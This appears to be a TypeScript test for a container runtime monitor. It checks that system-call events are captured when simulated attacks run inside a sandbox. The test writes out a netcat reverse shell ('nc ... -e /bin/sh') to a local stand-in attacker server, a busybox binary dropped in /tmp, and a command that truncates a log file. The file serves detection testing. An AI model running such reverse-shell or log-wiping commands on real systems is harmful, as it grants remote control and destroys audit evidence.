import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import type { SystemEvent } from '../../events/SystemEvent';
import { CriuTestNode } from '../testing/CriuTestNode';
import { describeWithCriu } from '../testing/describeWithCriu';

describeWithCriu('CommandWatch', () => {
  let node: CriuTestNode;

  beforeAll(async () => {
    node = await CriuTestNode.create('10.251.1');
  });

  afterAll(() => node?.close());

  it('sees what commands execute, and where their streams lead', async () => {
    const { id, sandbox } = await node.run('counter');
    const attacker = createServer(socket => socket.end('sleep 0.3\nexit\n'));
    attacker.listen(0, '0.0.0.0');
    await once(attacker, 'listening');
    const { port } = attacker.address() as AddressInfo;
    const gateway = sandbox.address.replace(/\d+$/, '1');
    const events: SystemEvent[] = [];
    const stop = node.runtime.onSystemEvent(event => events.push(event));
    const run = (script: string) =>
      node.runtime.executeCommand(id, ['sh', '-c', script], {
        output: () => undefined,
        error: () => undefined,
      });
    await run('cp /bin/busybox /tmp/busybox; /tmp/busybox sleep 0.3');
    await run(`nc ${gateway} ${port} -e /bin/sh`);
    await run('mkdir -p /var/log; echo line > /var/log/app.log');
    await run('sleep 0.3; : > /var/log/app.log');
    stop();
    attacker.close();
    expect(events).toContainEqual(
      expect.objectContaining({
        process: expect.objectContaining({ executable: '/tmp/busybox' }),
        call: { type: 'execve', isAdded: true },
        container: expect.objectContaining({
          id,
          podName: sandbox.spec.podName,
        }),
      }),
    );
    expect(events.map(({ call }) => call)).toContainEqual(
      expect.objectContaining({
        type: 'dup2',
        descriptor: 0,
        connection: expect.objectContaining({ remotePort: port }),
      }),
    );
    expect(events.map(({ call }) => call)).toContainEqual(
      expect.objectContaining({ type: 'openat', path: '/var/log/app.log' }),
    );
  });
});
